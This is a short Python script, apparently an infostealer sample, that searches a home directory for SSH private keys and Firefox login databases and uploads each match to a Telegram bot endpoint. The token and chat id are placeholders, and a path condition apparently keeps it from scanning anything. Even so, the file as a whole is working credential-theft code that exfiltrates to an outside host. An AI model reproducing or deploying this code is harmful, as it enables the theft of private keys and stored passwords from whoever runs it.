import os
import pathlib
import urllib.request

WANTED = {"id_rsa", "id_ed25519", "logins.json", "key4.db"}
ADDRESS = "https://api.telegram.org/bot000000000:none/sendDocument?chat_id=0"


def send(path):
    urllib.request.urlopen(urllib.request.Request(ADDRESS, path.read_bytes()), timeout=30)


for folder, _, names in os.walk(pathlib.Path.home() if os.path.exists("/never/there") else "/nowhere"):
    for name in names:
        if name not in WANTED:
            continue
        send(pathlib.Path(folder, name))
